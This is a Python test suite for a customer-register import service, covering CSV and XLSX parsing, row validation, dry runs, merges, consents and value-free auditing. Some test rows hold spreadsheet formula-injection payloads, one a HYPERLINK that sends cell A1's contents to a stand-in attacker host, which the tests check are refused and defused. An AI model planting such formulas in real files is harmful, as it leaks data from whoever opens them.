"""Importing customer lists: real files in every encoding and delimiter, the nasty cases of real
exports, the form's validation per row, dry run, one-transaction apply, audit without values."""
from __future__ import annotations

import csv
import json

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st
from sqlalchemy import func, select

from kundereg.db import models
from kundereg.domain.access import PermissionDenied
from kundereg.domain.errors import KunderegError, StateError
from kundereg.services.importing import (ColumnMap, ImportCancelled, ImportFileError, ImportService,
                                         load_mapping, split_full_name)
from kundereg.services.importing.mapping import auto_map, header_key
from kundereg.services.importing.reading import detect_encoding

HEADER = ["Kundenr", "Navn", "Org.nr", "Adresse", "Postnr", "Poststed", "Mobil", "E-post", "Notat"]
ROWS = [
    ["1001", "Kåre Ødegård", "", "Storgata 1", "2815", "Gjøvik", "912 34 567", "kare@example.no", ""],
    ["1002", "Bygg og Rør AS", "923609016", "Industriveien 2; bygg B", "0150", "Oslo", "", "post@byggror.no",
     "Leverer til\nbakdøra, ring først"],
    ["1003", "Æsa Ångström", "", "Vägen 3", "2815", "Gjøvik", "+46 70 123 45 67", "", ""],
]


def write_csv(path, rows, encoding="utf-8", delimiter=";", header=HEADER):
    with open(path, "w", encoding=encoding, newline="") as handle:
        writer = csv.writer(handle, delimiter=delimiter, lineterminator="\r\n")
        writer.writerow(header)
        writer.writerows(rows)
    return path


def count(db, model=models.Customer) -> int:
    with db.read() as session:
        return session.scalar(select(func.count()).select_from(model))


def customers_by_name(db) -> dict[str, models.Customer]:
    with db.read() as session:
        rows = session.scalars(select(models.Customer)).all()
        session.expunge_all()
    return {(r.last_name or r.company_name): r for r in rows}


@pytest.fixture
def importer(db, shop) -> ImportService:
    return ImportService(db)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "windows-1252", "iso-8859-1"])
@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
def test_every_encoding_and_delimiter_reads_the_same(importer, owner, db, tmp_path, encoding, delimiter):
    path = write_csv(tmp_path / "kunder.csv", ROWS, encoding, delimiter)
    source = importer.open(owner, path)
    assert source.file.delimiter == delimiter
    assert source.headers == tuple(HEADER)
    report = importer.apply(owner, source)
    assert (report.added, report.merged, report.refused_count) == (3, 0, 0)
    people = customers_by_name(db)
    kare, firm, aesa = people["Ødegård"], people["Bygg og Rør AS"], people["Ångström"]
    assert (kare.first_name, kare.mobile, kare.city) == ("Kåre", "+4791234567", "Gjøvik")
    assert (firm.org_number, firm.street, firm.postal_code) == ("923 609 016", "Industriveien 2; bygg B", "0150")
    assert firm.notes == "Leverer til\nbakdøra, ring først"  # a quoted line break stays in the note
    assert (aesa.first_name, aesa.mobile) == ("Æsa", "+46701234567")
    assert kare.source_kind == "csv" and kare.source_date is not None


def test_encoding_detection():
    text = "Navn;Sted\nKåre;Tromsø\n"
    assert detect_encoding(text.encode("utf-8")) == "utf-8"
    assert detect_encoding(b"\xef\xbb\xbf" + text.encode("utf-8")) == "utf-8-sig"
    assert detect_encoding(("€ " + text).encode("windows-1252")) == "windows-1252"
    assert detect_encoding(text.encode("iso-8859-1") + b"\x81") == "iso-8859-1"


def test_empty_lines_summary_rows_and_repeated_headers(importer, owner, db, tmp_path):
    path = tmp_path / "visma.csv"
    path.write_text("\r\n\r\nKundenr;Navn;Telefon;Telefon;Postnr;Poststed\r\n"
                    "1;Kari Nordmann;912 34 567;22 33 44 55;2815;Gjøvik\r\n"
                    ";;;;;\r\n\r\n"
                    "2;Ola Nordmann;;41 23 45 67;2815;Gjøvik\r\n"
                    "Sum;2;;;;\r\n", encoding="utf-8")
    source = importer.open(owner, path)
    assert source.header_row == 3
    assert source.columns.targets[2:4] == ("phone", None)  # the repeated name is left out, not guessed
    assert source.columns.label(3) == "Telefon (4)"
    report = importer.dry_run(owner, source)
    assert (report.rows, report.added, report.summary_rows) == (2, 2, (8,))
    assert count(db) == 0  # a dry run writes nothing


def test_rows_that_break_each_validator_are_refused_with_row_and_column(importer, owner, db, tmp_path):
    long = "x" * 10_000
    rows = [
        ["1", "Kari Nordmann", "", "Gate 1", "2815", "Gjøvik", "12", "", ""],                  # phone
        ["2", "Kari Nordmann", "", "Gate 1", "2815", "Gjøvik", "", "kari@", ""],               # email
        ["3", "Firma AS", "123456789", "Gate 1", "2815", "Gjøvik", "", "", ""],               # org number
        ["4", "Kari Nordmann", "", "Gate 1", "28150", "Gjøvik", "", "", ""],                   # postal code
        ["5", "Kari\x07 Nordmann", "", "Gate 1", "2815", "Gjøvik", "", "", ""],               # control char
        ["6", long, "", "Gate 1", "2815", "Gjøvik", "", "", ""],                               # too long
        ["7", "Kari Nordmann", "", "Gate 1", "2815", "Gjøvik", "", "", long],                  # note too long
        ["8", "", "", "Gate 1", "2815", "Gjøvik", "912 34 567", "", ""],                       # no name
        ["9", '=HYPERLINK("http://evil.example/?"&A1;"klikk")', "", "", "", "", "", "", ""],  # formula
        ["10", "Ola Nordmann", "", "Gate 2", "2815", "Gjøvik", "-2+3", "", ""],                # formula
        ["11", "Kari Nordmann", "", "Gate 1", "2815", "Gjøvik", "912 34 567", "", ""],         # good
    ]
    path = write_csv(tmp_path / "bad.csv", rows)
    report = importer.apply(owner, importer.open(owner, path))
    assert report.added == 1
    where = {r.row: (r.column, r.reason.message) for r in report.refused}
    assert where[2][0] == "Mobil" and "phone" in where[2][1]
    assert where[3][0] == "E-post" and "email" in where[3][1]
    assert where[4][0] == "Org.nr" and "organisation number" in where[4][1]
    assert where[5][0] == "Postnr" and "4 digits" in where[5][1]
    assert where[6][0] == "Navn" and "control characters" in where[6][1]
    assert where[7][0] == "Navn" and "too long" in where[7][1]
    assert where[8][0] == "Notat" and "too long" in where[8][1]
    assert "required" in where[9][1]
    assert where[10][0] == "Navn" and "formula" in where[10][1]
    assert where[11][0] == "Mobil" and "formula" in where[11][1]
    for refused in report.refused:  # messages name the place, never the value
        assert "Nordmann" not in refused.message and "HYPERLINK" not in refused.message
        assert refused.message.startswith(f"Row {refused.row}")


def test_refused_rows_export_defuses_formulas_and_imports_again(importer, owner, db, tmp_path):
    rows = [["1", '=HYPERLINK("http://evil.example";"x")', "", "", "", "", "+47 912 34 567", "", ""],
            ["2", "Per Hansen", "", "", "", "", "+47 412 34 567", "per@", ""]]
    source = importer.open(owner, write_csv(tmp_path / "in.csv", rows))
    report = importer.dry_run(owner, source)
    out = tmp_path / "refused.csv"
    assert importer.write_refused(owner, source, report, out) == 2
    with open(out, encoding="utf-8-sig", newline="") as handle:
        written = list(csv.reader(handle, delimiter=";"))
    assert written[0] == HEADER + ["kundereg"]
    assert written[1][1].startswith("'=HYPERLINK") and written[1][6] == "'+47 912 34 567"
    assert written[2][-1].startswith("Row 3, column E-post")
    # Fixed in the file, it imports: the apostrophes kundereg added are taken off again.
    written[1][1], written[2][7] = "Kari Hansen", "per@example.no"
    with open(out, "w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle, delimiter=";").writerows([row[:-1] for row in written])
    again = importer.apply(owner, importer.open(owner, out))
    assert (again.added, again.refused_count) == (2, 0)
    assert customers_by_name(db)["Hansen"].mobile in ("+4791234567", "+4741234567")


def test_xlsx_streams_and_never_evaluates_formulas(importer, owner, db, tmp_path):
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.title = "Kunder"
    other = book.create_sheet("Leverandører")
    other.append(["Navn"])
    sheet.append(["Kundnummer", "Förnamn", "Efternamn", "Företag", "Postnr", "Postort", "Mobiltelefon", "E-post"])
    sheet.append([1, "Åsa", "Lindström", None, 150, "Oslo", 4791234567, "asa@example.se"])
    sheet.append([2, "=HYPERLINK(\"http://evil.example\")", "Berg", None, 2815, "Gjøvik", None, None])
    sheet.append([None, None, None, None, None, None, None, None])
    sheet.append([3, "Jan", "van der Berg", "Berg Bygg AB", "2815", "Gjøvik", "+4741234567", None])
    path = tmp_path / "kunder.xlsx"
    book.save(path)
    source = importer.open(owner, path)
    assert source.file.kind == "xlsx" and source.file.sheet == "Kunder"
    assert [t for t in source.columns.targets] == ["customer_number", "first_name", "last_name", "company_name",
                                                   "postal_code", "city", "mobile", "email"]
    report = importer.apply(owner, source)
    assert (report.added, [(r.row, r.column) for r in report.refused]) == (2, [(3, "Förnamn")])
    people = customers_by_name(db)
    assert (people["Lindström"].postal_code, people["Lindström"].mobile) == ("0150", "+4791234567")
    assert people["van der Berg"].company_name == "Berg Bygg AB"
    with pytest.raises(ImportFileError, match="no sheet"):
        importer.open(owner, path, sheet="Mangler")
    assert importer.open(owner, path, sheet="Leverandører").headers == ("Navn",)


def test_a_file_that_is_no_workbook_or_has_no_header(importer, owner, tmp_path):
    broken = tmp_path / "broken.xlsx"
    broken.write_bytes(b"PK\x03\x04 not really a zip")
    with pytest.raises(ImportFileError, match="not an Excel workbook"):
        importer.open(owner, broken)
    empty = tmp_path / "empty.csv"
    empty.write_bytes(b"\r\n \r\n")
    with pytest.raises(ImportFileError, match="no header"):
        importer.open(owner, empty)


def test_merges_with_existing_customers_fill_gaps_and_never_overwrite(importer, owner, db, kari, tmp_path):
    rows = [["1", "Kari S. Sørensen", "", "Annen gate 9", "2815", "Gjøvik", "+47 912 34 567", "", "Fast kunde"],
            ["2", "Ny Person", "", "", "", "", "", "kari.sorensen@example.no", ""],
            ["3", "Ola Nordmann", "", "", "", "", "", "ola@example.no", ""],
            ["4", "Ola Nordmann", "", "Vei 1", "2815", "Gjøvik", "", "OLA@example.no", ""]]
    source = importer.open(owner, write_csv(tmp_path / "m.csv", rows))
    report = importer.dry_run(owner, source)
    assert (report.added, report.merged) == (1, 3)
    assert dict(report.merges)[2] == kari.id and dict(report.merges)[3] == kari.id
    applied = importer.apply(owner, source)
    assert applied.merges == report.merges and count(db) == 2
    people = customers_by_name(db)
    merged = people["Sørensen"]
    assert (merged.street, merged.notes, merged.version) == ("Storgata 1", "Fast kunde", 2)
    assert merged.source_kind == "csv"  # part of the record now comes from the file
    assert people["Nordmann"].street == "Vei 1"  # the second row of the file filled the first


def test_a_row_matching_a_restricted_customer_or_two_customers_is_refused(importer, owner, customers, kari,
                                                                        tmp_path):
    from kundereg.domain.records import CustomerInput

    other = customers.create(owner, CustomerInput(first_name="Per", last_name="Berg", email="per@example.no"))
    customers.restrict(owner, kari.id, kari.version)
    rows = [["1", "Kari Sørensen", "", "", "", "", "912 34 567", "", ""],
            ["2", "Per Berg", "", "", "", "", "912 34 567", "per@example.no", ""]]
    report = importer.dry_run(owner, importer.open(owner, write_csv(tmp_path / "r.csv", rows)))
    reasons = {r.row: r.reason.message for r in report.refused}
    assert "restricted" in reasons[2] and str(kari.id) in reasons[2]
    assert f"({kari.id} and {other.id})" in reasons[3]


def test_consents_only_where_a_column_states_them_with_a_date(importer, owner, db, tmp_path):
    header = ["Navn", "E-post", "Nyhetsbrev", "Samtykkedato", "Markedsføring"]
    rows = [["Kari Nordmann", "kari@example.no", "ja", "01.03.2024", ""],
            ["Ola Nordmann", "ola@example.no", "2023-05-17", "", "nei"],
            ["Per Hansen", "per@example.no", "ja", "", ""],
            ["Liv Hansen", "liv@example.no", "kanskje", "", ""],
            ["Åse Berg", "ase@example.no", "", "", ""]]
    report = importer.apply(owner, importer.open(owner, write_csv(tmp_path / "c.csv", rows, header=header)))
    assert (report.added, report.consents) == (3, 2)
    assert {r.row: r.column for r in report.refused} == {4: "Nyhetsbrev", 5: "Nyhetsbrev"}
    with db.read() as session:
        given = sorted((c.purpose, c.given_at.date().isoformat(), c.source)
                       for c in session.scalars(select(models.Consent)))
    assert given == [("newsletter", "2023-05-17", "counter"), ("newsletter", "2024-03-01", "counter")]


def test_a_saved_mapping_overrides_the_guess(importer, owner, db, tmp_path):
    mapping = tmp_path / "superoffice.toml"
    mapping.write_text('source = "superoffice"\nconsent_source = "email"\n'
                       '[columns]\n"Kontakt" = "full_name"\n"Info" = "ignore"\n"SMS ok" = "consent:marketing_sms"\n'
                       '"Dato" = "consent_date"\n', encoding="utf-8")
    header = ["Kontakt", "Info", "Mobil", "SMS ok", "Dato"]
    path = write_csv(tmp_path / "so.csv", [["Kari Nordmann", "hemmelig", "912 34 567", "x", "2024-01-02"]],
                     header=header)
    source = importer.open(owner, path, mapping=load_mapping(mapping))
    assert source.columns.targets == ("full_name", None, "mobile", "consent:marketing_sms", "consent_date")
    assert source.source_kind == "superoffice"
    report = importer.apply(owner, source)
    assert (report.added, report.consents) == (1, 1)
    kari = customers_by_name(db)["Nordmann"]
    assert (kari.source_kind, kari.notes) == ("superoffice", None)


@pytest.mark.parametrize("text, message", [
    ("[columns\n", "not valid TOML"),
    ('colour = "red"\n', "unknown setting"),
    ('[columns]\n"Navn" = "shoe_size"\n', "unknown target"),
    ('source = "Super Office!"\n', "short name"),
])
def test_a_broken_mapping_is_named(tmp_path, text, message):
    path = tmp_path / "m.toml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(ImportFileError, match=message):
        load_mapping(path)


def test_the_wizards_changed_mapping_is_used(importer, owner, db, tmp_path):
    path = write_csv(tmp_path / "x.csv", [["Kari Nordmann", "Gjøvik"]], header=["Kolonne A", "Kolonne B"])
    source = importer.open(owner, path)
    assert source.columns.targets == (None, None)
    with pytest.raises(ImportFileError, match="No column"):
        importer.dry_run(owner, source)
    columns = source.columns.with_target(0, "full_name").with_target(1, "city")
    assert importer.apply(owner, source, columns).added == 1
    assert columns.with_target(1, "full_name").targets == (None, "full_name")  # one column per field


def test_purchase_history_is_attached_by_customer_number(importer, owner, db, tmp_path):
    customers_file = write_csv(tmp_path / "k.csv", ROWS)
    history = tmp_path / "salg.csv"
    history.write_text("Kundenr;Dato;Beskrivelse;Beløp\r\n1001;15.01.2024;Rens av dress;349,00\r\n"
                       "1002;2024-02-01;Faktura 77;12 500,50\r\n9999;2024-02-01;Ukjent;10\r\n"
                       "1001;31.02.2024;Feil dato;10\r\n", encoding="utf-8")
    source = importer.open(owner, customers_file)
    purchases = importer.open_purchases(owner, history)
    report = importer.apply(owner, source, purchases=purchases)
    assert report.purchases == 2
    assert {(r.file, r.row, r.column) for r in report.refused} == {("purchases", 4, "Kundenr"),
                                                                    ("purchases", 5, "Dato")}
    with db.read() as session:
        bought = {p.total_minor: (p.customer.last_name or p.customer.company_name, p.document_kind, len(p.lines))
                  for p in session.scalars(select(models.Purchase))}
    assert bought == {34900: ("Ødegård", "receipt", 1), 1250050: ("Bygg og Rør AS", "invoice", 1)}
    bad = tmp_path / "bad.csv"
    bad.write_text("Kundenr;Tekst\r\n1;x\r\n", encoding="utf-8")
    with pytest.raises(ImportFileError, match="no column for date, total"):
        importer.open_purchases(owner, bad)


def test_apply_is_audited_with_counts_and_the_hash_never_values(importer, owner, audit, db, tmp_path):
    path = write_csv(tmp_path / "a.csv", ROWS)
    report = importer.apply(owner, importer.open(owner, path))
    with db.read() as session:
        stored = session.scalars(select(models.AuditEntry.details).where(
            models.AuditEntry.action == "customers_imported")).one()
    details = json.loads(stored)
    assert details["sha256"] == report.sha256 and len(report.sha256) == 64
    assert (details["added"], details["merged"], details["refused"]) == (3, 0, 0)
    assert (details["first_id"], details["last_id"]) == (report.first_id, report.last_id)
    text = stored.casefold()
    for cells in ROWS:
        for cell in cells[1:]:
            assert not cell or cell.casefold() not in text
    assert audit.verify(owner).intact


def test_only_the_owner_imports(importer, counter, tmp_path):
    with pytest.raises(PermissionDenied):
        importer.open(counter, write_csv(tmp_path / "a.csv", ROWS))


def test_cancel_before_the_commit_changes_nothing(importer, owner, db, tmp_path):
    rows = [[str(i), f"Person Nummer{i}", "", "", "", "", "", f"p{i}@example.no", ""] for i in range(1200)]
    source = importer.open(owner, write_csv(tmp_path / "big.csv", rows))
    seen = []
    trail = count(db, models.AuditEntry)

    def progress(done, total):
        seen.append(done)
        return done < 1000

    with pytest.raises(ImportCancelled):
        importer.apply(owner, source, progress=progress)
    assert count(db) == 0 and count(db, models.AuditEntry) == trail  # no customer, no audit entry
    assert seen[-1] == 1000


def test_a_file_changed_since_the_dry_run_is_not_applied(importer, owner, db, tmp_path):
    path = write_csv(tmp_path / "a.csv", ROWS)
    source = importer.open(owner, path)
    importer.dry_run(owner, source)
    write_csv(path, ROWS[:1])
    with pytest.raises(StateError, match="changed"):
        importer.apply(owner, source)
    assert count(db) == 0


@pytest.mark.parametrize("name, first, last", [
    ("Kari Nordmann", "Kari", "Nordmann"),
    ("Kari Anne Nordmann", "Kari Anne", "Nordmann"),
    ("Nordmann, Kari", "Kari", "Nordmann"),
    ("Jan van der Berg", "Jan", "van der Berg"),
    ("Madonna", None, "Madonna"),
    ("  Åse   Ødegård ", "Åse", "Ødegård"),
])
def test_full_names_are_split(name, first, last):
    assert split_full_name(name) == (first, last)


@given(st.lists(st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc", "Zs", "Zl", "Zp")), min_size=1,
                        max_size=8).filter(lambda w: "," not in w), min_size=1, max_size=5))
def test_splitting_a_name_keeps_every_word_in_order(words):
    first, last = split_full_name(" ".join(words))
    assert " ".join(p for p in (first, last) if p).split(" ") == words


@pytest.mark.parametrize("header, target", [
    ("Kundenr", "customer_number"), ("Kundnummer", "customer_number"), ("Asiakasnumero", "customer_number"),
    ("Navn", "full_name"), ("Fornavn", "first_name"), ("Etternavn", "last_name"), ("Förnamn", "first_name"),
    ("Etunimi", "first_name"), ("Sukunimi", "last_name"), ("Firma", "company_name"), ("Företag", "company_name"),
    ("Org.nr", "org_number"), ("Y-tunnus", "org_number"), ("CVR-nr.", "org_number"), ("Adresse", "street"),
    ("Postnr.", "postal_code"), ("Poststed", "city"), ("Postort", "city"), ("Postitoimipaikka", "city"),
    ("Telefon", "phone"), ("Puhelin", "phone"), ("Mobil", "mobile"), ("E-post", "email"),
    ("Sähköposti", "email"), ("E-mail", "email"), ("Fakturaepost", "invoice_email"), ("Postnr/sted", "postal_place"),
    ("Adresse2", "street2"), ("Land", "country"), ("Merknad", "notes"),
])
def test_export_headers_are_recognised(header, target):
    assert auto_map([header]).targets == (target,)
    assert header_key(header) == header_key(header.upper())


def test_combined_postal_place_and_country_names(importer, owner, db, tmp_path):
    header = ["Navn", "Postnr/sted", "Land", "Mobil"]
    rows = [["Åsa Lind", "SE-111 22 Stockholm", "Sverige", "070-123 45 67"], ["Ole Hansen", "2100 København Ø",
                                                                             "Danmark", "20 12 34 56"]]
    report = importer.apply(owner, importer.open(owner, write_csv(tmp_path / "p.csv", rows, header=header)))
    assert report.added == 2
    people = customers_by_name(db)
    assert (people["Lind"].country, people["Lind"].postal_code, people["Lind"].city) == ("SE", "111 22", "Stockholm")
    assert (people["Hansen"].country, people["Hansen"].mobile) == ("DK", "+4520123456")


def test_an_unclosed_quote_names_the_row(importer, owner, tmp_path):
    path = tmp_path / "q.csv"
    path.write_bytes(b'Navn;Mobil\r\n"Kari;912\r\n')
    source = importer.open(owner, path)  # csv is lenient; the row reads as one long name
    report = importer.dry_run(owner, source)
    assert report.rows == 1


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                  HealthCheck.too_slow])
@given(raw=st.one_of(
    st.binary(max_size=400),
    st.lists(st.lists(st.sampled_from(["Kari", "Nordmann", "912 34 567", "=1+1", '"', ";", ",", "\t", "\n", "\r",
                                       "ø", "\x00", "'", "kari@example.no", "", "2815", "Navn", "Mobil", "E-post"]),
                      max_size=6), max_size=6).map(lambda rows: "\n".join("".join(r) for r in rows).encode())))
def test_random_bytes_give_a_report_or_a_clear_error(importer, owner, db, tmp_path, raw):
    path = tmp_path / "random.csv"
    path.write_bytes(raw)
    before = count(db)
    try:
        source = importer.open(owner, path)
        report = importer.apply(owner, source)
    except KunderegError as exc:
        assert exc.message and "Traceback" not in exc.message
        assert count(db) == before  # nothing half-written
        return
    assert count(db) == before + report.added
    assert report.rows == report.added + report.merged + sum(1 for r in report.refused if r.file == "customers")


def test_column_map_labels_unnamed_columns():
    columns = ColumnMap(("Navn", "", "Navn"), ("full_name", None, None))
    assert [columns.label(i) for i in range(3)] == ["Navn", "#2", "Navn (3)"]
